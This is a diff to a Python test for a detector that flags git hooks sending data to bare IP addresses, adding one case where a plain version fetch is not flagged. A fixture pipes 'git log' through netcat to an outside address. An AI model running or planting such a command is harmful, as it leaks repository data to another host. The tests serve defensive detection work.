@@ -62,6 +62,7 @@ def test_a_hook_that_sends_to_a_bare_address_is_seen() -> None:
         assert hook_sends(name, "git log | nc 203.0.113.9 99\n")
         assert not hook_sends(name, f"git log -1 | {GET} -d @- https://ci.corp.example/h\n")
         assert not hook_sends(name, f"{GET} -d x http://localhost:80/\n")
+        assert not hook_sends(name, f"{GET} -s -f http://203.0.113.9/version\n")
     assert not hook_sends("scripts/x.sh", f"{GET} -d x http://203.0.113.9/\n")
 
 
